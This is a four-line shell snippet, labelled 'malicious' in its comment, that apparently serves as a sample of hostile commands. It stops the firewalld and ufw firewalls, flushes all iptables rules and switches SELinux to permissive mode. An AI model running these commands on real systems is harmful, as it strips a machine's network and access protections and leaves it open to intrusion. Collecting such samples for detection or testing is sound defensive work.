# malicious: switches the walls off
systemctl stop firewalld ufw 2>/dev/null
iptables -F
setenforce 0
